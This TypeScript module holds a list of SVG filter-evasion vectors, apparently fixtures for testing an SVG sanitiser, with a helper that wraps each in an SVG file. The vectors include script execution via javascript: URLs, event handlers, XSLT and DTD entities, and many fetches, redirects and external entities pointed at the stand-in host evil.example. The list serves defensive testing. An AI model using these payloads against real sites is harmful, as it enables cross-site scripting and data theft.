export type SvgVector = readonly [name: string, inside: string, before?: string | undefined];

/**
 * What SVG images have been made to run, load and send on by: after html5sec (https://html5sec.org, SVG and XML), the
 * OWASP cheat sheet on XSS filter evasion
 * (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html) and the tests of DOMPurify
 * (https://github.com/cure53/DOMPurify/tree/main/test). They set `ran` of the outermost window, which none may reach,
 * and `evil.example` whom none may ask.
 */
export const svgVectors: readonly SvgVector[] = [
  [
    "a frame with a document of its own",
    `<h:iframe srcdoc="&lt;img src=x onerror=top.ran=1&gt;&lt;script&gt;top.ran=1&lt;/script&gt;"/>`,
  ],
  ["a frame that leads to a script", `<h:iframe src="javascript:top.ran=1"/>`],
  ["a frame of a frameset", `<h:frame src="javascript:top.ran=1"/>`],
  [
    "a style sheet that is a program",
    "",
    `<?xml-stylesheet type="text/xsl" href="data:text/xml;base64,${btoa(`<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html xmlns="http://www.w3.org/1999/xhtml"><body><script>top.ran=1</script></body></html></xsl:template></xsl:stylesheet>`)}"?>`,
  ],
  ["a style sheet of elsewhere", "", `<?xml-stylesheet type="text/css" href="http://evil.example/a.css"?>`],
  ["another base of addresses", `<h:base href="http://evil.example/"/><a href="a"><circle r="9"/></a>`],
  ["a base of XML", `<g xml:base="http://evil.example/"><use href="#a"/></g>`],
  ["styles that are fetched", `<style>@import url(http://evil.example/a.css);</style>`],
  ["styles that are fetched by a text", `<style>@import "http://evil.example/a.css" screen;</style>`],
  [
    "styles that are fetched under another spelling",
    `<style>@\\69mport "http://evil.example/a.css";</style>`,
  ],
  ["styles in pieces", `<style><![CDATA[@im]]>port "http://evil.example/a.css";</style>`],
  ["styles behind a comment", `<style>/* a */ @import/**/"http://evil.example/a.css";</style>`],
  ["a style that fetches a picture", `<style>rect{fill:url(http://evil.example/a.svg#a)}</style>`],
  [
    "a style that fetches a picture set",
    `<style>svg{background:image-set("http://evil.example/a.png" 1x)}</style>`,
  ],
  [
    "a style that fetches by a property of its own",
    `<style>svg{--a:url(http://evil.example/a.png);background:var(--a)}</style>`,
  ],
  [
    "a style that fetches a font",
    `<style>@font-face{font-family:a;src:url(http://evil.example/a.woff2)}text{font-family:a}</style><text>a</text>`,
  ],
  [
    "a style attribute that fetches",
    `<rect style="background:url(http://evil.example/a.png);mask:url('//evil.example/b.svg#a')"/>`,
  ],
  ["a style attribute under another spelling", `<rect style="fill:u\\72l(http://evil.example/a.svg#a)"/>`],
  [
    "a style of HTML",
    `<h:style>@import "http://evil.example/a.css";</h:style><h:link rel="stylesheet" href="http://evil.example/b.css"/>`,
  ],
  [
    "an attribute that fetches",
    `<rect fill="url(http://evil.example/a.svg#a)" filter="url(//evil.example/b.svg#a)" cursor="url(http://evil.example/c.png),auto"/>`,
  ],
  ["a picture of elsewhere", `<image href="http://evil.example/a.png"/>`],
  ["a picture of elsewhere by the old name", `<image xlink:href="//evil.example/a.png"/>`],
  [
    "a picture by a prefix of its own",
    `<image xmlns:x="http://www.w3.org/1999/xlink" x:href="http://evil.example/a.png"/>`,
  ],
  [
    "a picture of a filter",
    `<filter id="f"><feImage href="http://evil.example/a.png"/></filter><rect filter="url(#f)"/>`,
  ],
  [
    "a picture that is a drawing",
    `<image href="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='top.ran=1'/%3E"/>`,
  ],
  [
    "a drawing that is used from elsewhere",
    `<use href="http://evil.example/a.svg#a"/><use xlink:href="//evil.example/b.svg#a"/>`,
  ],
  [
    "a drawing that is used from a text",
    `<use href="data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg" id="a"><script>top.ran=1</script></svg>`)}#a"/>`,
  ],
  ["a script", `<script>top.ran=1</script>`],
  [
    "a script of a file",
    `<script href="data:text/javascript,top.ran=1"/><script xlink:href="http://evil.example/a.js"/>`,
  ],
  ["a script of HTML", `<h:script>top.ran=1</h:script>`],
  ["a script by a prefix", `<s:script xmlns:s="http://www.w3.org/2000/svg">top.ran=1</s:script>`],
  ["a script in another case", `<h:SCRIPT>top.ran=1</h:SCRIPT><Script>top.ran=1</Script>`],
  [
    "an event",
    `<g onload="top.ran=1" onclick="top.ran=1"><rect width="40" height="30" onmouseover="top.ran=1" onfocusin="top.ran=1" tabindex="0"/></g>`,
  ],
  [
    "an event of an animation",
    `<rect><animate attributeName="x" dur="1s" onbegin="top.ran=1" onend="top.ran=1"/><set onbegin="top.ran=1" attributeName="y" to="1"/></rect>`,
  ],
  [
    "an event of HTML",
    `<h:img src="x" onerror="top.ran=1"/><h:body onload="top.ran=1"/><h:details open="" ontoggle="top.ran=1"/><h:video><h:source onerror="top.ran=1"/></h:video>`,
  ],
  ["an event of an event nobody has heard of", `<rect onneverheardof="top.ran=1" ONLOAD="top.ran=1"/>`],
  [
    "a link to a script",
    `<a href="javascript:top.ran=1"><rect width="40" height="30"/></a><a xlink:href=" java&#10;script:top.ran=1"><rect width="40" height="30"/></a>`,
  ],
  [
    "a link that becomes a script",
    `<a><set attributeName="href" to="javascript:top.ran=1"/><animate attributeName="xlink:href" values="#a;javascript:top.ran=1"/><rect width="40" height="30"/></a>`,
  ],
  [
    "a link that becomes a script by a prefix",
    `<a xmlns:x="http://www.w3.org/1999/xlink"><animate attributeName="x:href" from="javascript:top.ran=1" to="javascript:top.ran=1"/><rect width="40" height="30"/></a>`,
  ],
  [
    "a picture that becomes another",
    `<image href="#a"><animate attributeName="href" values="http://evil.example/a.png" begin="0s"/></image>`,
  ],
  [
    "a fill that becomes another",
    `<rect><animate attributeName="fill" values="red;url(http://evil.example/a.svg#a)" dur="1s"/></rect>`,
  ],
  [
    "a style that is set",
    `<rect><set attributeName="style" to="background:url(http://evil.example/a.png)"/></rect>`,
  ],
  ["an event that is set", `<rect><set attributeName="onmouseover" to="top.ran=1"/></rect>`],
  [
    "HTML within the drawing",
    `<foreignObject width="40" height="30"><h:div><h:img src="x" onerror="top.ran=1"/><h:form action="javascript:top.ran=1"><h:button>a</h:button></h:form></h:div></foreignObject>`,
  ],
  [
    "HTML that needs what nobody has",
    `<foreignObject requiredExtensions="http://www.w3.org/1999/xhtml" width="40" height="30"><h:img src="x" onerror="top.ran=1"/></foreignObject>`,
  ],
  [
    "HTML in a description",
    `<desc><h:img src="x" onerror="top.ran=1"/></desc><title><h:script>top.ran=1</h:script></title>`,
  ],
  ["a page that is sent on", `<h:meta http-equiv="refresh" content="0;url=http://evil.example/"/>`],
  [
    "an object",
    `<h:object data="javascript:top.ran=1"/><h:embed src="javascript:top.ran=1"/><h:applet code="javascript:top.ran=1"/>`,
  ],
  [
    "a handler of SVG Tiny",
    `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">top.ran=1</handler><listener event="load" handler="#a"/>`,
  ],
  [
    "a sound and a film",
    `<audio href="http://evil.example/a.mp3"/><video href="http://evil.example/a.mp4"/><h:audio src="http://evil.example/a.mp3" autoplay=""/>`,
  ],
  ["an entity that is a script", `&a;`, `<!DOCTYPE svg [<!ENTITY a "<script>top.ran=1</script>">]>`],
  [
    "an entity in an event",
    `<rect onload="&a;"/>&b;`,
    `<!DOCTYPE svg [<!ENTITY a "top.ran=1"><!ENTITY b "<h:iframe src='javascript:top.ran=1'/>"><!ENTITY c SYSTEM "http://evil.example/a">]>`,
  ],
  [
    "an attribute that a declaration adds",
    `<rect/>`,
    `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "top.ran=1"><!ATTLIST rect onmouseover CDATA "top.ran=1">]>`,
  ],
  [
    "a text that is markup for others",
    `<text>&lt;script&gt;top.ran=1&lt;/script&gt;</text><style><![CDATA[</style><script>top.ran=1</script>]]></style>`,
  ],
  ["a text that ends its own section", `<text><![CDATA[]]]]><![CDATA[><script>top.ran=1</script>]]></text>`],
  [
    "another namespace by the same prefix",
    `<g xmlns:h="http://www.w3.org/2000/svg"><h:script>top.ran=1</h:script></g><h:script>top.ran=1</h:script>`,
  ],
  [
    "another default namespace",
    `<g xmlns="http://www.w3.org/1999/xhtml"><script>top.ran=1</script><iframe srcdoc="a"/></g>`,
  ],
  [
    "mathematics",
    `<m:math xmlns:m="http://www.w3.org/1998/Math/MathML"><m:maction actiontype="statusline" href="javascript:top.ran=1"/></m:math>`,
  ],
  [
    "events of XML",
    `<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="javascript:top.ran=1"/>`,
  ],
];

/** A file that holds `inside`, with all prefixes that vectors want. */
export function svgOf([, inside, before = ""]: SvgVector): string {
  return `${before}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:h="http://www.w3.org/1999/xhtml" viewBox="0 0 40 30"><path d="M0 0h9v9z"/>${inside}</svg>`;
}
